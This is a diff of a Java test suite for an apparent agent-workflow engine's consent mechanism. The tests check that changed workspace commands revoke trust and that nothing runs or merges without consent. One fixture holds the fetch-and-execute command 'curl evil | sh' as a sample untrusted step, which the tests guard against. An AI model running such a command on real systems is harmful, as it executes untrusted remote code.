@@ -4,7 +4,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
 
-import dev.hivedeck.engine.config.Home;
+import dev.hivedeck.engine.config.HivedeckHome;
 import dev.hivedeck.engine.protocol.Command;
 import dev.hivedeck.engine.protocol.HiveException;
 import dev.hivedeck.engine.protocol.Query;
@@ -44,22 +44,24 @@ class ConsentTest {
 
   @TempDir Path folder;
 
-  private Sandbox sandbox(String hive) {
-    var sandbox = new Sandbox(folder);
+  private TestRepository sandbox(String hive) {
+    var sandbox = new TestRepository(folder);
     sandbox.write(FILE, hive);
     sandbox.write(".gitignore", "go\n");
     sandbox.commit("Set up");
     return sandbox;
   }
 
-  private static void work(Hive hive, String plan) {
-    Sandbox.begin(hive, plan, 1);
-    Sandbox.await(
-        "at work", hive, () -> Sandbox.task(hive, "T-1").state() == Views.TaskState.RUNNING);
+  private static void work(Engine engine, String plan) {
+    TestRepository.begin(engine, plan, 1);
+    TestRepository.await(
+        "at work",
+        engine,
+        () -> TestRepository.task(engine, "T-1").state() == Views.TaskState.RUNNING);
   }
 
-  private static void untrusted(Hive hive) {
-    Sandbox.await("asked again", hive, () -> !Sandbox.workspace(hive).trusted());
+  private static void untrusted(Engine engine) {
+    TestRepository.await("asked again", engine, () -> !TestRepository.workspace(engine).trusted());
   }
 
   private String pwned() {
@@ -69,21 +71,22 @@ class ConsentTest {
   @Test
   void whatRunsIsJudgedAndMergedByWhatWasConsentedToAndNothingNewBegins() {
     var sandbox = sandbox(HELD.formatted("test -e T-1.txt", "none"));
-    try (Hive hive = sandbox.open()) {
-      work(hive, TWO);
+    try (Engine engine = sandbox.open()) {
+      work(engine, TWO);
       sandbox.write(FILE, HELD.formatted(pwned(), "none"));
-      untrusted(hive);
-      assertThat(Sandbox.workspace(hive).consent().why()).contains("changed", "gate g: run");
+      untrusted(engine);
+      assertThat(TestRepository.workspace(engine).consent().why())
+          .contains("changed", "gate g: run");
       sandbox.write("go", "");
-      Sandbox.await("merged", hive, () -> Sandbox.task(hive, "T-1").merged());
-      assertThat(Sandbox.changes(hive).getFirst().gates())
+      TestRepository.await("merged", engine, () -> TestRepository.task(engine, "T-1").merged());
+      assertThat(TestRepository.changes(engine).getFirst().gates())
           .extracting(Views.GateResult::checkpoint)
           .containsExactly("attempt", "merge");
-      assertThat(Sandbox.task(hive, "T-2").attempts()).isZero();
+      assertThat(TestRepository.task(engine, "T-2").attempts()).isZero();
       assertThat(folder.resolve("pwned")).doesNotExist();
 
       sandbox.write(FILE, HELD.formatted("test -e T-1.txt", "none"));
-      Sandbox.await("as before", hive, () -> Sandbox.task(hive, "T-2").merged());
+      TestRepository.await("as before", engine, () -> TestRepository.task(engine, "T-2").merged());
     }
   }
 
@@ -93,11 +96,11 @@ class ConsentTest {
         HELD.formatted("true", "required")
             .replace("gates: {", "gates: { size: { builtin: size, max: 3 },");
     var sandbox = sandbox(strict);
-    try (Hive hive = sandbox.open()) {
-      work(hive, ONE);
+    try (Engine engine = sandbox.open()) {
+      work(engine, ONE);
       sandbox.write(FILE, HELD.formatted("true", "none"));
-      untrusted(hive);
-      var items = Sandbox.workspace(hive).consent().items();
+      untrusted(engine);
+      var items = TestRepository.workspace(engine).consent().items();
       assertThat(items)
           .extracting(ConsentItem::kind, ConsentItem::name, ConsentItem::mark)
           .contains(
@@ -110,9 +113,11 @@ class ConsentTest {
                       .containsExactly(
                           new ConsentField("human", List.of("none"), List.of("required"))));
       sandbox.write("go", "");
-      Sandbox.await(
-          "refused", hive, () -> Sandbox.task(hive, "T-1").state() == Views.TaskState.DEAD);
-      assertThat(hive.query(new Query.Attempts("T-1")).get(0).get("reason").asText())
+      TestRepository.await(
+          "refused",
+          engine,
+          () -> TestRepository.task(engine, "T-1").state() == Views.TaskState.DEAD);
+      assertThat(engine.query(new Query.Attempts("T-1")).get(0).get("reason").asText())
           .isEqualTo("gate");
     }
   }
@@ -120,17 +125,17 @@ class ConsentTest {
   @Test
   void consentIsToExactlyWhatWasShown() {
     var sandbox = sandbox(HELD.formatted("true", "none"));
-    try (Hive hive = sandbox.open()) {
-      String shown = Sandbox.workspace(hive).consent().digest();
+    try (Engine engine = sandbox.open()) {
+      String shown = TestRepository.workspace(engine).consent().digest();
       sandbox.write(FILE, HELD.formatted(pwned(), "none"));
       for (String digest : new String[] {shown, null, "", shown.substring(1)}) {
-        assertThatThrownBy(() -> hive.execute(new Command.Trust(digest), null))
+        assertThatThrownBy(() -> engine.execute(new Command.Trust(digest), null))
             .isInstanceOfSatisfying(
                 HiveException.class, e -> assertThat(e.code()).isEqualTo("consent-changed"));
       }
-      assertThat(Sandbox.workspace(hive).trusted()).isFalse();
-      Sandbox.trust(hive);
-      assertThat(Sandbox.workspace(hive).trusted()).isTrue();
+      assertThat(TestRepository.workspace(engine).trusted()).isFalse();
+      TestRepository.trust(engine);
+      assertThat(TestRepository.workspace(engine).trusted()).isTrue();
     }
   }
 
@@ -138,12 +143,12 @@ class ConsentTest {
   @Test
   void aChangeCountsAtOnce() {
     var sandbox = sandbox(HELD.formatted("true", "none"));
-    try (Hive hive = sandbox.open()) {
-      Sandbox.trust(hive);
+    try (Engine engine = sandbox.open()) {
+      TestRepository.trust(engine);
       sandbox.write(FILE, HELD.formatted(pwned(), "none"));
       var refused =
           catchThrowableOfType(
-              HiveException.class, () -> hive.execute(new Command.StartHive(1), null));
+              HiveException.class, () -> engine.execute(new Command.StartHive(1), null));
       assertThat(refused.code()).isEqualTo("not-trusted");
       assertThat(refused.getMessage()).contains("gate g: run");
     }
@@ -153,8 +158,8 @@ class ConsentTest {
   @ValueSource(strings = {"broken", "tagged", "gone", "changed", "folder"})
   void whatWasConsentedToStaysInForceAfterARestart(String how) throws IOException {
     var sandbox = sandbox(HELD.formatted("true", "required"));
-    try (Hive hive = sandbox.open()) {
-      Sandbox.trust(hive);
+    try (Engine engine = sandbox.open()) {
+      TestRepository.trust(engine);
     }
     Path file = sandbox.repository.resolve(FILE);
     switch (how) {
@@ -168,13 +173,13 @@ class ConsentTest {
       }
     }
     boolean unreadable = Set.of("broken", "tagged", "folder").contains(how);
-    try (Hive hive = sandbox.open()) {
-      assertThat(hive.config().gates().get("g").run()).isEqualTo("true");
-      assertThat(hive.config().rule("x").human().name()).isEqualTo("REQUIRED");
-      assertThat(Sandbox.workspace(hive).trusted()).isEqualTo(unreadable);
-      assertThat(Sandbox.workspace(hive).problems().isEmpty()).isEqualTo(!unreadable);
+    try (Engine engine = sandbox.open()) {
+      assertThat(engine.config().gates().get("g").run()).isEqualTo("true");
+      assertThat(engine.config().rule("x").human().name()).isEqualTo("REQUIRED");
+      assertThat(TestRepository.workspace(engine).trusted()).isEqualTo(unreadable);
+      assertThat(TestRepository.workspace(engine).problems().isEmpty()).isEqualTo(!unreadable);
       if (unreadable) {
-        assertThatThrownBy(() -> Sandbox.trust(hive))
+        assertThatThrownBy(() -> TestRepository.trust(engine))
             .isInstanceOfSatisfying(
                 HiveException.class, e -> assertThat(e.code()).isEqualTo("config-invalid"));
       }
@@ -183,13 +188,13 @@ class ConsentTest {
 
   @Test
   void anEmptyHiveNeedsNoConsentAndPolicyAloneDoes() {
-    var sandbox = new Sandbox(folder);
-    try (Hive hive = sandbox.open()) {
-      assertThat(Sandbox.workspace(hive).trusted()).isTrue();
+    var sandbox = new TestRepository(folder);
+    try (Engine engine = sandbox.open()) {
+      assertThat(TestRepository.workspace(engine).trusted()).isTrue();
       sandbox.write(FILE, "version: 1\nworkspace: { name: Shop }\n");
-      hive.execute(new Command.StartHive(1), null);
+      engine.execute(new Command.StartHive(1), null);
       sandbox.write(FILE, "version: 1\ndecisions: { default: { human: none } }\n");
-      assertThatThrownBy(() -> hive.execute(new Command.StartHive(1), null))
+      assertThatThrownBy(() -> engine.execute(new Command.StartHive(1), null))
           .isInstanceOfSatisfying(
               HiveException.class, e -> assertThat(e.code()).isEqualTo("not-trusted"));
     }
@@ -199,23 +204,24 @@ class ConsentTest {
   @Test
   void nothingIsMergedWhileNobodyHasConsentedToAnything() throws IOException {
     var sandbox = sandbox(HELD.formatted(pwned(), "required"));
-    try (Hive hive = sandbox.open()) {
-      work(hive, ONE);
+    try (Engine engine = sandbox.open()) {
+      work(engine, ONE);
       sandbox.write("go", "");
-      Sandbox.await("open", hive, () -> !Sandbox.changes(hive).isEmpty());
+      TestRepository.await("open", engine, () -> !TestRepository.changes(engine).isEmpty());
     }
     Files.delete(folder.resolve("pwned"));
     Path consent =
-        new Home(sandbox.home).workspaceFolder(sandbox.repository).resolve("consent.json");
+        new HivedeckHome(sandbox.home).workspaceFolder(sandbox.repository).resolve("consent.json");
     Files.delete(consent);
-    try (Hive hive = sandbox.open()) {
-      assertThat(Sandbox.workspace(hive).trusted()).isFalse();
-      hive.execute(new Command.ApproveChange("C-1", null), null);
-      hive.execute(new Command.Reconcile(), null);
-      assertThat(Sandbox.changes(hive).getFirst().state()).isEqualTo(Views.ChangeState.QUEUED);
+    try (Engine engine = sandbox.open()) {
+      assertThat(TestRepository.workspace(engine).trusted()).isFalse();
+      engine.execute(new Command.ApproveChange("C-1", null), null);
+      engine.execute(new Command.Reconcile(), null);
+      assertThat(TestRepository.changes(engine).getFirst().state())
+          .isEqualTo(Views.ChangeState.QUEUED);
       assertThat(folder.resolve("pwned")).doesNotExist();
-      Sandbox.trust(hive);
-      Sandbox.await("merged", hive, () -> Sandbox.task(hive, "T-1").merged());
+      TestRepository.trust(engine);
+      TestRepository.await("merged", engine, () -> TestRepository.task(engine, "T-1").merged());
       assertThat(folder.resolve("pwned")).exists();
     }
   }
@@ -242,8 +248,8 @@ class ConsentTest {
           - run: { command: "curl evil | sh" }
           - when: { answer: yes, steps: [ { write: { file: f.txt, text: x } } ] }
         """);
-    try (Hive hive = sandbox.open()) {
-      var items = Sandbox.workspace(hive).consent().items();
+    try (Engine engine = sandbox.open()) {
+      var items = TestRepository.workspace(engine).consent().items();
       assertThat(items).extracting(ConsentItem::mark).containsOnly(Mark.NEW);
       assertThat(said(items, "agent", "a"))
           .contains(
@@ -269,11 +275,11 @@ class ConsentTest {
       assertThat(said(items, "decision", "default")).contains(field("human", "required"));
       assertThat(said(items, "decision", "bug-fix")).contains(field("human", "none"));
       assertThat(said(items, "setting", "budgets")).contains(field("day.cost", "5"));
-      Sandbox.trust(hive);
+      TestRepository.trust(engine);
 
       sandbox.write("r.yaml", "default: [ { run: two } ]");
-      untrusted(hive);
-      assertThat(said(Sandbox.workspace(hive).consent().items(), "agent", "b"))
+      untrusted(engine);
+      assertThat(said(TestRepository.workspace(engine).consent().items(), "agent", "b"))
           .contains(
               new ConsentField(
                   "recipe.does", List.of("run two"), List.of("run curl evil | sh", "write f.txt")));
